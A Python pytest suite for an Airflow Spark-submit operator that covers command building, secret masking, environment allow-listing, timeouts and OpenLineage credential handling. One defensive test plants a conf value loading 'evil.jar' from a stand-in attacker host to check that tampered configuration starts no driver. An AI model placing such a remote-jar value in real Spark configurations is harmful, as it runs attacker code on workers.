"""EphemeralSparkSubmitOperator on the Spark provider's SparkSubmitHook: the provider installs
beside pyspark 4.3 (both import), the hook builds the command, and real spark-submit drivers
(local master: no cluster needed) get the auth file, the allow-listed environment, py_files,
the result channel, the timeout and a failure's tail."""

from __future__ import annotations

import hashlib
import importlib.metadata
import json
import os
import re
import textwrap
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from ephemeral.backends import ClusterHandle
from ephemeral.backends.fake import InMemoryBackend
from ephemeral.settings import get_settings
from ephemeral.specs import ClusterIdentity, resolve

SECRET = "s3cr3t-" + "ab" * 16

APP = textwrap.dedent('''
    import hashlib, json, os, sys, time
    from pyspark.sql import SparkSession
    import helper  # shipped with --py-files

    mode, pid_file = sys.argv[1], sys.argv[2]
    with open(pid_file, "w") as fh:
        fh.write(str(os.getpid()))
    spark = SparkSession.builder.getOrCreate()
    secret = spark.sparkContext.getConf().get("spark.authenticate.secret", "")
    argv = open(f"/proc/{os.getppid()}/cmdline", "rb").read().decode(errors="replace")
    if mode == "sleep":
        from pyspark import SparkFiles
        import tempfile
        with open(pid_file + ".tmp.json", "w") as fh:  # where its temporary files go
            json.dump({"python": tempfile.gettempdir(), "files": SparkFiles.getRootDirectory(),
                       "jvm": spark._jvm.java.lang.System.getProperty("java.io.tmpdir")}, fh)
        time.sleep(600)
    if mode == "fail":
        print("the application says why it failed", flush=True)
        sys.exit(3)
    result = {"rows": spark.range(3).count(), "helper": helper.VALUE,
              "secret_sha": hashlib.sha256(secret.encode()).hexdigest(),
              "secret_in_driver_argv": bool(secret) and secret in argv,
              "auth_file": argv.split("\\0--extra-properties-file\\0")[1].split("\\0")[0],
              "env": sorted(os.environ),
              "conf": {k: spark.conf.get(k) for k in ("spark.sql.shuffle.partitions",
                                                      "spark.ui.enabled")}}
    spark.stop()
    with open(os.environ["EPHEMERAL_RESULT_FILE"], "w") as fh:
        json.dump(result, fh)
''')


def test_the_provider_and_pyspark_43_install_and_import_side_by_side() -> None:
    import pyspark
    from airflow.providers.apache.spark.hooks.spark_submit import SparkSubmitHook
    from airflow.providers.apache.spark.operators.spark_submit import SparkSubmitOperator
    from pyspark.sql import SparkSession

    from ephemeral.airflow.spark_submit import EphemeralSparkSubmitOperator
    from ephemeral.airflow.spark_submit_hook import ClusterSparkSubmitHook

    assert SparkSession is not None
    assert issubclass(ClusterSparkSubmitHook, SparkSubmitHook)
    assert EphemeralSparkSubmitOperator is not SparkSubmitOperator
    # pyspark's Python files are 4.3.0's own: pyspark-client (the provider 6.x requirement)
    # would overwrite them with 4.2.0's.
    assert pyspark.__version__ == importlib.metadata.version("pyspark") == "4.3.0"
    with pytest.raises(importlib.metadata.PackageNotFoundError):
        importlib.metadata.version("pyspark-client")


def test_dags_using_the_operator_parse_without_the_provider() -> None:
    """The compose image has no Spark: importing the operator must not import the provider."""
    import subprocess
    import sys

    code = ("import sys; import ephemeral.airflow.spark_submit; "
            "print('airflow.providers.apache.spark.hooks.spark_submit' in sys.modules)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True).stdout
    assert out.strip().splitlines()[-1] == "False"


def test_the_old_name_is_a_deprecated_alias() -> None:
    from airflow.exceptions import AirflowProviderDeprecationWarning

    from ephemeral.airflow import operators
    from ephemeral.airflow.spark_submit import EphemeralSparkSubmitOperator

    with pytest.warns(AirflowProviderDeprecationWarning, match="EphemeralSparkSubmitOperator"):
        from ephemeral.airflow.operators import SparkSubmitOperator
    assert SparkSubmitOperator is EphemeralSparkSubmitOperator
    with pytest.raises(AttributeError):
        operators.NoSuchOperator  # noqa: B018


def test_the_hook_builds_the_command_with_the_auth_file_first_and_masks_secrets(
        capsys: pytest.CaptureFixture[str]) -> None:
    from ephemeral.airflow.spark_submit_hook import ClusterSparkSubmitHook

    hook = ClusterSparkSubmitHook(
        master="spark://127.0.0.9:7077", spark_binary="/opt/spark/bin/spark-submit",
        extra_args=["--extra-properties-file", "/private/auth.properties"],
        conf={"spark.hadoop.fs.s3a.secret.key": "hunter2"}, name="etl",
        packages="org.example:lib:1.0", jars="a.jar,b.jar", py_files="deps.zip",
        application_args=["--out", "file:///tmp/x"])
    cmd = hook._build_spark_submit_command("app.py")
    assert cmd[:3] == ["/opt/spark/bin/spark-submit", "--extra-properties-file",
                       "/private/auth.properties"]
    pairs = {cmd[i]: cmd[i + 1] for i in range(1, len(cmd) - 1) if cmd[i].startswith("--")}
    assert pairs["--master"] == "spark://127.0.0.9:7077"
    assert pairs["--deploy-mode"] == "client"
    assert pairs["--packages"] == "org.example:lib:1.0"
    assert pairs["--jars"] == "a.jar,b.jar"
    assert pairs["--py-files"] == "deps.zip"
    assert cmd[-3:] == ["app.py", "--out", "file:///tmp/x"]
    # The hook logs the command (Airflow's logging writes to stdout outside a task).
    logged = "\n".join(line for line in capsys.readouterr().out.splitlines()
                       if "Spark-Submit cmd" in line)
    assert "spark.hadoop.fs.s3a.secret.key=******" in logged
    assert "hunter2" not in logged


# -- real drivers ---------------------------------------------------------------------------

def _handle(master: str) -> dict[str, Any]:
    spec = resolve("spark/etl", "ci-cpu")
    identity = ClusterIdentity(spec_name=spec.spec.name, dag_id="etl", run_id="r1",
                               task_id="create", instance=get_settings().instance)
    handle = InMemoryBackend().create(spec, identity=identity)
    endpoints = handle.endpoints.model_copy(update={"spark_master": master})
    # Executors of its workers' size, the spec's conf, and one key the application's own conf
    # overrides.
    assert handle.spark_conf == {"spark.executor.cores": "1", "spark.executor.memory": "2048m",
                                 "spark.sql.shuffle.partitions": "8"}
    spark_conf = handle.spark_conf | {"spark.ui.enabled": "true"}
    return handle.model_copy(update={"endpoints": endpoints, "spark_conf": spark_conf}
                             ).model_dump(mode="json")


@pytest.fixture
def app(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    from ephemeral.airflow import operators, spark_submit
    from ephemeral.jobs.spark_jobs import SparkAuth

    (tmp_path / "app.py").write_text(APP)
    (tmp_path / "helper.py").write_text("VALUE = 'from py_files'\n")
    # The cluster's credential source; the drivers, Spark and Airflow's hook are real.
    # Its record of the cluster is the handle (a local[1] master: no cluster to start).
    backend = SimpleNamespace(name="stand-in", spark_auth=lambda _h: SparkAuth(secret=SECRET),
                              owned=lambda handle, _selector: handle)
    monkeypatch.setattr(spark_submit, "cluster_backend", lambda *_a: backend)
    monkeypatch.setattr(operators, "cluster_backend", lambda *_a: backend)  # job_target's
    monkeypatch.setenv("PLANTED_DB_PASSWORD", "do-not-pass")
    return tmp_path


def _operator(app: Path, mode: str, **kwargs: Any) -> Any:
    from ephemeral.airflow.spark_submit import EphemeralSparkSubmitOperator

    return EphemeralSparkSubmitOperator(
        task_id=f"spark_{mode}", cluster=_handle("local[1]"), application=str(app / "app.py"),
        application_args=[mode, str(app / f"{mode}.pid")], py_files=str(app / "helper.py"),
        conf={"spark.ui.enabled": "false"}, env_vars={"MY_FLAG": "1"}, **kwargs)


CONTEXT = {"dag": SimpleNamespace(dag_id="etl"), "run_id": "r1",
           "ti": SimpleNamespace(xcom_push=lambda **_k: None, try_number=1, map_index=-1)}


def _gone(pid: int, within: float = 20.0) -> bool:
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return True
        time.sleep(0.2)
    return False


@pytest.mark.local
@pytest.mark.slow
def test_a_driver_authenticates_from_a_file_and_pushes_its_result(app: Path) -> None:
    out = _operator(app, "ok").execute(CONTEXT)
    result = out["result"]
    assert out["status"] == "SUCCEEDED"
    assert out["engine"] == "spark"
    assert result["rows"] == 3
    assert result["helper"] == "from py_files"
    # The secret reached the driver's SparkConf through the properties file, not its argv.
    assert result["secret_sha"] == hashlib.sha256(SECRET.encode()).hexdigest()
    assert result["secret_in_driver_argv"] is False
    # The allow-list: ours and the artifact root pass, this worker's other variables do not.
    assert {"MY_FLAG", "EPHEMERAL_ARTIFACT_ROOT", "PYSPARK_PYTHON"} <= set(result["env"])
    assert "PLANTED_DB_PASSWORD" not in result["env"]
    # The cluster's defaults (its spec's conf) reached the driver; the application's own won.
    assert result["conf"] == {"spark.sql.shuffle.partitions": "8", "spark.ui.enabled": "false"}
    # The properties file was private to the driver's run and is gone with it.
    assert result["auth_file"].endswith("auth.properties")
    assert not Path(result["auth_file"]).exists()


@pytest.mark.local
@pytest.mark.slow
def test_a_failing_driver_fails_the_task_with_its_last_lines(app: Path) -> None:
    from airflow.sdk.exceptions import AirflowException

    with pytest.raises(AirflowException, match=r"(?s)exit code 3.*the application says why"):
        _operator(app, "fail").execute(CONTEXT)


@pytest.mark.local
@pytest.mark.slow
def test_the_job_timeout_stops_the_drivers_whole_session(app: Path) -> None:
    from airflow.sdk.exceptions import AirflowException

    # Long enough for the driver's Python to start (it wrote its pid about 5 s in, at load 2;
    # a loaded CI host is slower), short because the test waits all of it out.
    op = _operator(app, "sleep", job_timeout=30)
    started = time.monotonic()
    with pytest.raises(AirflowException, match="did not finish in 30s"):
        op.execute(CONTEXT)
    assert time.monotonic() - started < 80
    pid = int((app / "sleep.pid").read_text())  # the Python driver, a child of the JVM
    assert _gone(pid), "the driver's Python process outlived the timeout"
    # Killed, the driver cleaned up none of its temporary files: they were all in its run's
    # private folder, which went with it (not in /tmp).
    where = json.loads((app / "sleep.pid.tmp.json").read_text())
    private = Path(where["python"]).parent
    assert private.name.startswith("ephemeral-spark-submit-"), where
    assert Path(where["jvm"]) == Path(where["python"])
    assert Path(where["files"]).is_relative_to(private / "local"), where
    assert not private.exists()


@pytest.mark.parametrize("side", ["record", "xcom"])
def test_a_conf_that_only_the_record_or_only_the_xcom_states_starts_no_driver(
        app: Path, monkeypatch: pytest.MonkeyPatch, side: str) -> None:
    """A namespace editor can rewrite a Kubernetes cluster's record, an XCom editor the handle;
    the driver runs on the worker, where ``spark.jars`` or ``-javaagent`` would run their
    code. It takes a conf only when both say the same."""
    from airflow.sdk.exceptions import AirflowFailException

    from ephemeral.airflow import operators, spark_submit

    evil = {"spark.jars": "https://attacker.example/evil.jar"}
    op = _operator(app, "ok")
    if side == "xcom":
        op.cluster = op.cluster | {"spark_conf": op.cluster["spark_conf"] | evil}
    record = ClusterHandle.model_validate(_handle("local[1]"))
    if side == "record":
        record = record.model_copy(update={"spark_conf": record.spark_conf | evil})
    backend = SimpleNamespace(name="stand-in", owned=lambda _handle, _selector: record)
    monkeypatch.setattr(operators, "cluster_backend", lambda *_a: backend)

    def never(*_a: Any, **_k: Any) -> Any:
        raise AssertionError("no driver may start")

    monkeypatch.setattr(spark_submit.EphemeralSparkSubmitOperator, "_submit", never)
    with pytest.raises(AirflowFailException, match=r"differ on the Spark conf spark\.jars"):
        op.execute(CONTEXT)


def test_on_kill_stops_the_drivers_session(app: Path) -> None:
    import subprocess

    op = _operator(app, "ok")
    proc = subprocess.Popen(["sleep", "60"], start_new_session=True, text=True)
    op._driver = proc
    op.on_kill()
    assert proc.wait(timeout=10) != 0



def test_openlineage_parent_job_properties_are_injected_as_the_providers_operator_does() -> None:
    pytest.importorskip("airflow.providers.openlineage")
    from datetime import UTC, datetime

    from ephemeral.airflow.spark_submit import EphemeralSparkSubmitOperator

    when = datetime(2026, 1, 1, tzinfo=UTC)
    run = SimpleNamespace(logical_date=when, run_after=when, clear_number=0, run_id="r1",
                          conf={}, dag_id="etl")
    ti = SimpleNamespace(dag_id="etl", task_id="build_features", try_number=1, map_index=-1,
                         logical_date=when, run_id="r1", dag_run=run,
                         get_template_context=lambda: {"dag_run": run})
    context = {"ti": ti, "dag_run": run}

    def op(**kwargs: Any) -> Any:
        return EphemeralSparkSubmitOperator(task_id="build_features", cluster={},
                                            application="app.py", conf={"spark.x": "1"},
                                            **kwargs)

    def on(master: str) -> ClusterHandle:
        return ClusterHandle.model_validate(_handle(master))

    conf = op(openlineage_inject_parent_job_info=True)._conf(context, on("spark://127.0.3.1:7077"))
    assert conf["spark.openlineage.parentJobName"] == "etl.build_features"
    assert conf["spark.openlineage.rootParentJobName"] == "etl"
    assert conf["spark.x"] == "1"
    assert conf["spark.driver.host"] == "127.0.0.1"  # a local cluster calls the driver back here
    # A local cluster's driver starts fast (and maps its class-data-sharing archive, if built).
    assert conf["spark.driver.extraJavaOptions"].startswith(
        "-XX:TieredStopAtLevel=1 -XX:+UseSerialGC")
    # Off by default, as [openlineage] spark_inject_parent_job_info is.
    plain = op()._conf(context, on("spark://10.0.0.5:7077"))
    # A remote cluster's driver keeps the JVM's defaults; the cluster's conf, then the task's.
    assert plain == {"spark.executor.cores": "1", "spark.executor.memory": "2048m",
                     "spark.sql.shuffle.partitions": "8", "spark.ui.enabled": "true",
                     "spark.x": "1"}


def test_openlineage_transport_credentials_go_to_the_private_file_not_the_command_line(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """[openlineage] spark_inject_transport_info puts the transport's API key into the conf;
    as --conf it was in `ps`, in the logged command (the provider masks only 'secret' and
    'password' keys) and in the Spark UI (whose redaction misses 'apiKey')."""
    pytest.importorskip("airflow.providers.openlineage")
    from unittest.mock import MagicMock

    from ephemeral.airflow.spark_submit import _private_part, _with_openlineage
    from ephemeral.airflow.spark_submit_hook import ClusterSparkSubmitHook
    from ephemeral.jobs.spark_jobs import SparkAuth, _auth_properties

    key = "OLKEY-" + "c" * 24
    monkeypatch.setenv("AIRFLOW__OPENLINEAGE__TRANSPORT", json.dumps({
        "type": "http", "url": "https://lineage.example", "auth": {"type": "api_key",
                                                                  "apiKey": key}}))
    injected = _with_openlineage({"spark.x": "1"}, {"ti": MagicMock(), "dag_run": MagicMock()},
                                 False, True)
    assert injected["spark.openlineage.transport.auth.apiKey"] == f"Bearer {key}"
    conf, private = _private_part(injected)
    assert set(private) == {"spark.openlineage.transport.auth.apiKey",
                            "spark.openlineage.transport.auth.type", "spark.redaction.regex"}
    # The Spark UI's Environment tab redacts by key or value: its default misses 'apiKey'.
    redaction = re.compile(private["spark.redaction.regex"])
    assert redaction.search("spark.openlineage.transport.auth.apiKey")
    assert redaction.search("spark.openlineage.transport.headers.X-Team")
    assert not redaction.search("spark.sql.shuffle.partitions")
    extra = _auth_properties(tmp_path, SparkAuth(secret=SECRET), private)
    hook = ClusterSparkSubmitHook(master="spark://127.0.0.9:7077", spark_binary="spark-submit",
                                  extra_args=extra, conf=conf, name="etl")
    cmd = hook._build_spark_submit_command("app.py")
    assert key not in " ".join(cmd)
    assert "spark.openlineage.transport.url=https://lineage.example" in cmd
    assert key not in capsys.readouterr().out
    written = (tmp_path / "auth.properties").read_text()
    assert f"spark.openlineage.transport.auth.apiKey=Bearer {key}\n" in written
    assert f"spark.authenticate.secret={SECRET}\n" in written
    assert "spark.redaction.regex=(?i)secret|password|token|access[.]?key|api[._-]?key|" \
        "authorization|openlineage\\\\.transport" in written  # escaped as Properties reads it
    assert (tmp_path / "auth.properties").stat().st_mode & 0o777 == 0o600
